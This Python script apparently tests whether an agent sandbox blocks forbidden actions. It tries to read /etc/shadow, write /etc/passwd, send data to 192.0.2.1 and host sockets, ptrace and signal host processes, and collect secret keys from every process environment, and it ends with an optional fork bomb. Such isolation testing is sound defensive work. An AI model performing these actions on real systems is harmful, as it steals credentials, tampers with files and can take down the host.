"""Tries what an agent must not be able to do, and says what came of each attempt, one JSON object a line.

Arguments: the socket, then a host file, a host TCP port, a host pid, and the name of a host's abstract socket. With one
more it leaves out the fork bomb at the end.
"""

import ctypes
import json
import os
import signal
import socket
import sys

secret_path, host_port, host_pid, abstract_name = sys.argv[2:6]

libc = ctypes.CDLL(None, use_errno=True)


def report(area, what, succeeded, detail):
    print(json.dumps({"area": area, "what": what, "succeeded": succeeded, "detail": detail}), flush=True)


def attempt(area, what, act):
    try:
        found = act()
    except OSError as refused:
        report(area, what, False, refused.strerror or str(refused))
    else:
        report(area, what, True, repr(found)[:200])


def read(path):
    with open(path, "rb") as file:
        return file.read(4096).decode("utf-8", "replace")


def write(path):
    with open(path, "ab") as file:
        file.write(b"owned\n")


def connect(family, kind, address):
    with socket.socket(family, kind) as reached:
        reached.settimeout(2)
        reached.connect(address)
        reached.send(b"exfiltrated")


def send_to(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as reached:
        reached.sendto(b"exfiltrated", address)


def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


def outside(act):
    """Tries an address beyond this host only where no interface leads there: nothing is ever sent."""
    with open("/proc/net/dev") as devices:
        names = {line.partition(":")[0].strip() for line in devices if ":" in line}
    if names - {"lo"}:
        raise RuntimeError(f"this is no network namespace of its own, it has {', '.join(sorted(names))}: not tried")
    return act()


def ptrace(pid):
    attach = 16
    if libc.ptrace(attach, pid, None, None) != 0:
        failure = ctypes.get_errno()
        raise OSError(failure, os.strerror(failure))


def mount():
    if libc.mount(b"none", b"/work", b"tmpfs", 0, None) != 0:
        failure = ctypes.get_errno()
        raise OSError(failure, os.strerror(failure))


attempt("filesystem", "read /etc/shadow", lambda: read("/etc/shadow"))
attempt("filesystem", "read a secret of the host", lambda: read(secret_path))
attempt("filesystem", "list /root", lambda: os.listdir("/root") or os.strerror(2))
attempt("filesystem", "write /usr/bin/owned", lambda: write("/usr/bin/owned"))
attempt("filesystem", "write /etc/passwd", lambda: write("/etc/passwd"))
attempt("filesystem", "mount over /work", mount)

attempt(
    "network",
    "connect to 192.0.2.1:443",
    lambda: outside(lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 443))),
)
attempt(
    "network",
    "connect to a server on the host's loopback",
    lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int(host_port))),
)
attempt("network", "send a datagram to 192.0.2.1:53", lambda: outside(lambda: send_to(("192.0.2.1", 53))))
attempt("network", "open a raw socket", raw)
attempt(
    "network",
    "connect to an abstract socket of the host",
    lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + abstract_name),
)

attempt("process", "signal a process of the host", lambda: os.kill(int(host_pid), signal.SIGTERM))
attempt("process", "ptrace a process of the host", lambda: ptrace(int(host_pid)))
attempt("process", "ptrace its own parent", lambda: ptrace(os.getppid() or 1))

environments = {f"{name}={value}" for name, value in os.environ.items()}
for entry in os.listdir("/proc"):
    if entry.isdigit():
        try:
            environments.update(read(f"/proc/{entry}/environ").split("\0"))
        except OSError:
            pass
# What stands where clients of model providers want a key says of itself that it is none.
PLACEHOLDER = "=analemma-placeholder-the-kernel-has-the-keys"
keys = sorted(
    each
    for each in environments
    if any(word in each.upper() for word in ("KEY=", "TOKEN=", "SECRET=")) and not each.endswith(PLACEHOLDER)
)
report("environment", "find keys in the environment", bool(keys), ", ".join(keys) or "no key in sight")

report("process", "fork for ever", False, "see how it ends" if len(sys.argv) == 6 else "left out")
while len(sys.argv) == 6:
    try:
        os.fork()
    except OSError:
        pass
